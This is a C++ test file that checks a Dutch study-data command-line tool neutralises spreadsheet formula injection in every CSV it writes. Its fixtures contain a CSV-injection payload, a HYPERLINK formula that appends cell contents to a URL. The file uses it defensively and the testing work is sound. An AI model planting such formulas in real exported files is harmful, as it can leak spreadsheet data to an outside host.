// Formula injection (OWASP "CSV injection"): a cohort named as a spreadsheet formula must come
// out of every CSV the command line writes as text, with a leading apostrophe, never as a live
// formula; numbers, also negative ones, stay numbers.
#include "tests/cli/CliRunner.h"
#include "tests/cli/TempDir.h"
#include "tests/cli/TextContains.h"

#include <catch2/catch.hpp>

#include <filesystem>
#include <string>

using km::test::CliRunner;
using km::test::CliResult;

namespace {

const std::string formula = "=HYPERLINK(\"http://x\"&A1,\"klik\")";
// The cohort as a CSV cell: apostrophe first, quoted for its quotes and comma.
const std::string neutralised = "\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"klik\"\")\"";

std::string studyWithFormulaCohort(const km::test::TempDir& dir)
{
    const std::string casussen = dir.write("casussen.csv",
        "casus_id,cohort,regio,melddatum,einde_followup,minderjarigen\n"
        "F1,\"=HYPERLINK(\"\"http://x\"\"&A1,\"\"klik\"\")\",Alkmaar,2020-01-10,2021-01-10,ja\n"
        "F2,\"=HYPERLINK(\"\"http://x\"\"&A1,\"\"klik\"\")\",Alkmaar,2020-02-10,2021-02-10,nee\n"
        "G1,-B,Alkmaar,2020-01-10,2021-01-10,ja\n");
    const std::string gebeurtenissen = dir.write("gebeurtenissen.csv",
        "casus_id,datum,soort,bekend_bij\nF1,2020-06-01,nieuw_geweld,vt\n");
    const std::string study = dir.file("f.db");
    const CliResult r = CliRunner::run({"import", study, "--casussen", casussen, "--gebeurtenissen", gebeurtenissen});
    INFO(r.err);
    REQUIRE(r.exitCode == 0);
    return study;
}

// No line or cell of `csv` starts with the bare formula.
void requireNoLiveFormula(const std::string& csv)
{
    INFO(csv);
    CHECK(csv.find("\n=") == std::string::npos);
    CHECK(csv.find(",=") == std::string::npos);
    CHECK(csv.find(";=") == std::string::npos);
    CHECK(csv.find("\"=") == std::string::npos);
    CHECK(csv.find(neutralised) != std::string::npos);
}

} // namespace

TEST_CASE("cli csv: a cohort named as a formula is neutralised in indicators, survival and compare", "[cli][csv]")
{
    const km::test::TempDir dir;
    const std::string study = studyWithFormulaCohort(dir);

    const CliResult indicators = CliRunner::run({"indicators", study, "--cohort", formula, "--format", "csv"});
    INFO(indicators.err);
    REQUIRE(indicators.exitCode == 0);
    requireNoLiveFormula(indicators.out);
    // The cohort's cells start with the apostrophe; the numbers after it are numbers.
    CHECK(indicators.out.find("\n" + neutralised + ",2,recidive.nieuw_geweld,,1,2,0,50,") != std::string::npos);

    const CliResult survival = CliRunner::run({"survival", study, "--soort", "nieuw_geweld", "--format", "csv"});
    REQUIRE(survival.exitCode == 0);
    requireNoLiveFormula(survival.out);

    const CliResult compare = CliRunner::run({"compare", study, "--cohort", formula, "--cohort", "-B", "--format", "csv"});
    INFO(compare.err);
    REQUIRE(compare.exitCode == 0);
    requireNoLiveFormula(compare.out);
    // "-B" is text and gets the apostrophe; a negative difference is a number and does not.
    CHECK(compare.out.find("," + std::string("'-B") + ",") != std::string::npos);
    CHECK(compare.out.find(",-") != std::string::npos);
}

TEST_CASE("cli csv: the figure export neutralises the formula in every CSV file", "[cli][csv]")
{
    const km::test::TempDir dir;
    const std::string study = studyWithFormulaCohort(dir);
    const std::string out = dir.file("figuren");
    const CliResult r = CliRunner::run({"export", study, "--out", out, "--no-suppression"});
    if (r.exitCode == 3 && km::test::contains(r.err, "niet beschikbaar")) {
        WARN("built without the desktop program's ui library: no export");
        return;
    }
    INFO(r.err);
    REQUIRE(r.exitCode == 0);
    int files = 0;
    for (const auto& entry : std::filesystem::directory_iterator(out)) {
        if (entry.path().extension() != ".csv")
            continue;
        ++files;
        const std::string csv = km::test::readFile(entry.path().string());
        INFO(entry.path().string());
        CHECK(csv.find("\n=") == std::string::npos);
        CHECK(csv.find(";=") == std::string::npos);
        CHECK(csv.find("\"=") == std::string::npos);
        CHECK(csv.find("\"'=HYPERLINK(") != std::string::npos);
        // Without protection the header row says so.
        CHECK(csv.find("afscherming;intern: kleine aantallen niet afgeschermd\r\n") != std::string::npos);
    }
    CHECK(files > 0);
}
